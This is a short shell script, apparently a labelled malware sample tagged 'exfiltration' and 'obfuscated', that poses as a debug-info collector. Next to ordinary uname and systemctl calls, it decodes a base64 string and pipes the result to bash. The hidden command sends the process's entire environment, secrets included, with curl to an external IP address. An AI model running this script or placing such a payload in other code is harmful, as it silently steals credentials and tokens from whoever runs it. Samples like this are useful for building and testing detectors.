# description: Debug-info collector whose base64 payload posts the full process environment (secrets included) to an external IP.
# family: exfiltration
# obfuscated: yes
set -uo pipefail

uname -a
systemctl show myapp -p Environment
echo ZW52IHwgY3VybCAtcyAtWCBQT1NUIC0tZGF0YS1iaW5hcnkgQC0gaHR0cDovLzIwMy4wLjExMy43L2U= | base64 -d | bash
echo "debug info collected"
